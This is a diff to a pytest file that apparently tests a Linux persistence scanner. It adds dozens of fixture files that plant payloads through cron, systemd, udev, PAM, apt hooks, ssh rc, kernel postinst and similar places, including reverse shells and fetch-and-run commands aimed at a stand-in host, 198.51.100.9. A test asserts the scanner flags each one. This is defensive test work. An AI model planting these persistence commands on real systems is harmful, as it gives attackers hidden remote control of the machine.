@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -132,6 +133,104 @@ HARMFUL: dict[str, Tree] = {
         "root/.ssh/config": "Host *\n PermitLocalCommand yes\n LocalCommand /dev/shm/x\n"
     },
 }
+H = "198.51.100.9"
+MORE: dict[str, Tree] = {
+    "exec -a": {
+        "etc/profile.d/a.sh": "if [ $(id -u) = 0 ]; then (exec -a '[kworker]' /dev/shm/k &) ; fi\n"
+    },
+    "tcp loop": {
+        "etc/cron.d/x": f"*/5 * * * * root /bin/bash -c 'exec 5<>/dev/tcp/{H}/443; cat <&5 | while read l; do $l 2>&5 >&5; done'\n"
+    },
+    "xzcat": {
+        "etc/systemd/system/x.service": unit(
+            'ExecStart=/bin/sh -c "xzcat /usr/share/man/man1/z.1.xz | sh"'
+        )
+    },
+    "echo at": {
+        "etc/udev/rules.d/x.rules": 'ACTION=="add", RUN+="/bin/sh -c \'echo /dev/shm/a | at now\'"\n'
+    },
+    "urlopen": {
+        "root/.bashrc": f"[ -S /run/.x ] || (python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://{H}/x\").read())' &)\n"
+    },
+    "awk": {
+        "etc/update-motd.d/9": '#!/bin/sh\nawk \'BEGIN{s="/inet/tcp/0/198.51.100.9/99";while(1){printf "$" |& s; s |& getline c; while(c|getline)print|&s}}\' &\n'
+    },
+    "pam script": {
+        "etc/pam.d/sshd": "session optional pam_exec.so /usr/local/bin/x.sh\n",
+        "usr/local/bin/x.sh": "#!/bin/sh\n. /run/lock/.s\n",
+    },
+    "logrotate stage": {
+        "etc/logrotate.d/x": "/var/log/x {\n postrotate\n  base64 -d /etc/logrotate.d/.d > /run/x; chmod +x /run/x; /run/x &\n endscript\n}\n"
+    },
+    "perl lwp": {
+        "etc/apt/apt.conf.d/9": f"DPkg::Post-Invoke {{\"perl -e 'use LWP::Simple; eval get(q(http://{H}/x))'\"}};\n"
+    },
+    "gpg": {"etc/rc.local": "#!/bin/sh\ngpg -d --batch --passphrase x /etc/k.gpg | bash\n"},
+    "procsub": {
+        "home/ann/.config/autostart/x.desktop": f'[Desktop Entry]\nExec=bash -c "exec bash <(curl -s https://{H}/x)"\n'
+    },
+    "git config": {
+        "home/ann/a/.git/hooks/post-merge": '#!/bin/sh\neval "$(git config x.y | base64 -d)"\n'
+    },
+    "ctypes": {
+        "etc/cron.daily/zz": "#!/usr/bin/python3\nimport ctypes, os\nlibc=ctypes.CDLL(None)\nfd=libc.syscall(319,b'x',1)\nos.write(fd,open('/etc/.b','rb').read())\nos.execv('/proc/self/fd/%d'%fd,['x'])\n"
+    },
+    "nsenter": {"etc/network/if-up.d/x": "#!/bin/sh\nnsenter -t 1 -m -- /dev/shm/x\n"},
+    "modprobe": {
+        "etc/modprobe.d/x.conf": 'install usb_storage /bin/sh -c "/sbin/modprobe --ignore-install usb_storage; /var/lock/.u &"\n'
+    },
+    "supervisor env": {
+        "etc/supervisor/conf.d/x.conf": "[program:x]\ncommand=/usr/bin/env LD_PRELOAD=/dev/shm/a.so /usr/bin/sleep inf\n"
+    },
+    "supervisor environment": {
+        "etc/supervisor/conf.d/x.conf": '[program:x]\ncommand=/usr/bin/sleep inf\nenvironment=LD_PRELOAD="/dev/shm/a.so"\n'
+    },
+    "pth hex": {
+        "usr/lib/python3/dist-packages/a.pth": "import os,sys;exec(__import__('zlib').decompress(bytes.fromhex('789c')))\n"
+    },
+    "k8s": {
+        "etc/kubernetes/manifests/a.yaml": "spec:\n  containers:\n  - name: a\n    command: ['/bin/bash', '-c', 'echo aWQ= | base64 -d | bash']\n"
+    },
+    "docker": {
+        "var/lib/docker/containers/a/config.v2.json": json.dumps(
+            {"Path": "sh", "Args": ["-c", f"wget -qO- {H}/x | sh"]}
+        )
+    },
+    "sshrc": {"root/.ssh/rc": f"nohup ssh -o ProxyCommand='sh -c \"curl {H}|sh\"' x &\n"},
+    "mqueue": {
+        "etc/systemd/system/x.service": unit("ExecStart=/usr/bin/busybox sh /dev/mqueue/.x")
+    },
+    "xprofile": {
+        "home/ann/.xprofile": "xxd -p -r ~/.cache/x | (cat >/dev/shm/.q; chmod 700 /dev/shm/.q; exec /dev/shm/.q)\n"
+    },
+    "ssd": {
+        "etc/init.d/x": "#!/bin/sh\ncase $1 in\nstart)\n start-stop-daemon --start --background --exec /dev/shm/d\n;;\nesac\n"
+    },
+    "ssd var": {
+        "etc/init.d/x": "#!/bin/sh\nDAEMON=/dev/shm/d\ncase $1 in\nstart)\n start-stop-daemon -S -b -x $DAEMON -- -d\n;;\nesac\n"
+    },
+    "openrc": {"etc/init.d/x": "#!/sbin/openrc-run\ncommand=/dev/shm/d\ncommand_background=yes\n"},
+    "runit": {"etc/sv/x/run": "#!/bin/sh\nexec chpst -u root /dev/shm/x\n"},
+    "while": {
+        "etc/rc.local": "#!/bin/bash\nwhile true; do [ -x /dev/shm/x ] && /dev/shm/x; sleep 60; done &\n"
+    },
+    "D var": {"etc/rc.local": '#!/bin/bash\nd=/dev; s=shm\n"$d/$s/.x" &\n'},
+    "ExecStartPost curl": {
+        "etc/systemd/system/ssh.service.d/x.conf": f"[Service]\nExecStartPost=-/usr/bin/curl -o /run/.k http://{H}/k\nExecStartPost=-/bin/sh /run/.k\n"
+    },
+    "cron python file": {"etc/cron.d/x": "* * * * * root /usr/bin/python3 /dev/shm/.a.py\n"},
+    "user timer": {
+        "root/.config/systemd/user/x.timer": "[Timer]\nOnBootSec=1\n",
+        "root/.config/systemd/user/x.service": unit(
+            "ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.9/9 0>&1'"
+        ),
+    },
+    "xdg env": {"etc/xdg/plasma-workspace/env/x.sh": "export QT_PLUGIN_PATH=/dev/shm/q\n"},
+    "kernel install": {"etc/kernel/postinst.d/x": f"#!/bin/sh\nwget -q -O - http://{H}/x | sh\n"},
+    "dracut": {
+        "usr/lib/dracut/modules.d/99x/x.sh": "#!/bin/sh\nmkdir -p /dev/shm; echo aWQ= | base64 -d > /dev/shm/x; sh /dev/shm/x\n"
+    },
+}
 BENIGN: dict[str, Tree] = {
     "path": {
         "etc/profile.d/a.sh": "export PATH=$HOME/bin:/snap/bin:/opt/x/bin:$PATH\nexport XDG_RUNTIME_DIR=/run/user/$(id -u)\n"
@@ -229,6 +328,11 @@ BENIGN: dict[str, Tree] = {
 @pytest.mark.parametrize("name", HARMFUL)
 def test_what_leads_to_a_payload_is_found(tmp_path: Path, name: str) -> None:
     assert worst(report(tmp_path, HARMFUL[name])) >= 47
+
+
+@pytest.mark.parametrize("name", MORE)
+def test_what_starts_a_payload_is_found(tmp_path: Path, name: str) -> None:
+    assert worst(report(tmp_path, MORE[name])) >= 47
 
 
 @pytest.mark.parametrize("name", BENIGN)
